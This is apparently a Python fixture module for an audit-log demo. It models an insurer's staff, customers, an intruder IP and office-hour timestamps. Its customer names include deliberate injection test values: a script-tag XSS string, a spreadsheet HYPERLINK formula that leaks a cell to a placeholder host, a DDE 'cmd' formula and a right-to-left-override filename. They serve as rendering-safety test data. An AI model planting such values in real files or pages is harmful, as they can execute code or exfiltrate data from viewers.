# SPDX-License-Identifier: MIT
"""Who and what the demo is about: the people of the insurer Meridian Mutual, its customers, working hours."""

import datetime

from .kit import UTC, at

MASK_KEY = "auditlens-demo-key"
SANTURA_KEY = "auditlens-demo-signing"
REDACTO_KEY = "auditlens-demo-redacto"

BEGIN = at("2024-01-02 08:00:00")
MARCH = at("2026-03-01 00:00:00")
END = at("2026-03-31 18:00:00")

TENANTS = ("meridian-uk", "meridian-de")
INTRUDER_IP = "198.51.100.23"


class Person:
    def __init__(self, pk, username, name, ip, tenant="meridian-uk", email=None):
        self.pk = pk
        self.username = username
        self.name = name
        self.ip = ip
        self.tenant = tenant
        self.email = email or username + "@example.com"
        self.uuid = "00000000-0000-4000-8000-%012d" % pk

    def actor(self):
        return {"username": self.username, "name": self.name, "email": self.email, "id": self.pk}

    def reference(self):
        return {"pk": self.pk, "repr": self.name, "model": "auth.User"}


ALICE = Person(42, "alice.nguyen", "Alice Nguyen", "10.4.2.17", email="alice@example.com")
OKAFOR = Person(9, "b.okafor", "B. Okafor", "10.4.2.21")
SILVA = Person(11, "d.silva", "D. Silva", "10.4.2.23")
CAROL = Person(13, "c.reyes", "Carol Reyes", "10.4.2.29")
ZOE = Person(17, "zoe.mueller", "Zoë Müller", "10.8.1.4", "meridian-de")
FARSI = Person(19, "m.alfarsi", "محمد الفارسي", "10.8.1.6", "meridian-de")
YAMADA = Person(23, "h.yamada", "山田 花子", "2001:db8:4::17", "meridian-de")
PEOPLE = (ALICE, OKAFOR, SILVA, CAROL, ZOE, FARSI, YAMADA)

RENEWALS = "svc-renewals"
IMPORTER = "import-bot"

AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18 Safari/605",
)
INTRUDER_AGENT = "curl/8.5.0"

# Names that try a viewer: other scripts, both directions, emoji, markup, spreadsheet formulas, a right-to-left
# override. They are data and must be shown as such.
CUSTOMERS = {
    300: "Harbor Freight",
    301: "Lumen Bakery",
    302: "Café Zürich 🍰",
    303: "شركة الميناء للتأمين",
    304: "株式会社 東京海運",
    305: "<b>Bold & Co</b><script>alert('x')</script>",
    306: '=HYPERLINK("http://example.invalid/?leak="&A1,"Open invoice")',
    307: "@SUM(1+1)*cmd|' /C calc'!A0",
    308: "+44 Logistics",
    309: "-2+3 Arithmetic Ltd",
    310: "Ærø Færgeselskab",
    311: "Quay & Sons Boatyard",
    312: "Family 👩‍👩‍👧 Travel",
    313: "בית הדפוס של חיפה",
    314: "invoice\u202egnp.exe",
    315: 'O\'Brien "Bob" \\ Partners',
    316: "Smith\tTabular",
    317: "Straße & Söhne GmbH",
    318: "Łódź Textiles",
    319: "Ωmega Shipping",
}
TAGS = {1: "Critical", 2: "Review", 3: "Fleet", 4: "Legacy", 5: "VIP", 6: "Broker", 7: "Marine"}
STATUSES = ("draft", "pending", "approved", "active", "lapsed")


def working_days(begin, end):
    day = begin.date()
    while day <= end.date():
        if day.weekday() < 5:
            yield day
        day += datetime.timedelta(days=1)


def office_time(rng, day):
    """Between 08:30 and 18:00 UTC, to the millisecond."""
    second = rng.between(8 * 3600 + 1800, 18 * 3600 - 1)
    moment = datetime.datetime(day.year, day.month, day.day, tzinfo=UTC)
    return moment + datetime.timedelta(seconds=second, milliseconds=rng.below(1000))


def office_times(rng, count, march_percent=52):
    """Sorted times on working days; about half of them in March 2026, the month of the case."""
    before = list(working_days(BEGIN, MARCH - datetime.timedelta(days=1)))
    march = list(working_days(MARCH, END))
    days = [rng.pick(march) if rng.chance(march_percent) else rng.pick(before) for _ in range(count)]
    return sorted(office_time(rng, day) for day in days)


def reference(pk):
    return "POL-%d" % pk
